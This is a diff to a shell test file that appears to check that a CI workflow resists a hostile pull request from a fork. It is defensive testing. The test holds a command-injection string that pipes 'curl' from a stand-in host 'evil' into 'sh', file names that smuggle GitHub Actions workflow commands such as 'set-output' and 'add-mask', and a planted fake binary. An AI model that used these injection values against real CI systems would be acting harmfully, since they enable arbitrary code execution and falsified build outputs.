@@ -74,8 +74,10 @@ team() {
 @test "a hostile pull request of a fork: nothing runs, no secret is there, no line is a command, nothing is published" {
     team
     hostile='";curl${IFS}evil|sh;$(touch${IFS}pwned)`touch${IFS}pwned2`'
-    mkdir -p 'HotPath/::set-output name=published::true' .github/workflows
-    echo x >'HotPath/::set-output name=published::true/f'
+    # A colon cannot be in a name of a patch; what is left out is told as well.
+    mkdir -p '::set-output name=published::true' 'HotPath/%0A%3A%3Aset-output name=published%3A%3Atrue' .github/workflows
+    echo x >'::set-output name=published::true/f'
+    echo x >'HotPath/%0A%3A%3Aset-output name=published%3A%3Atrue/f'
     echo x >'HotPath/$(touch pwned3);##[add-mask]e'
     # A binary and settings of their own, where ours might be looked for.
     mkdir -p .hotfix/bin && printf '#!/bin/sh\ntouch pwned5\n' >.hotfix/bin/hotfix && chmod +x .hotfix/bin/hotfix
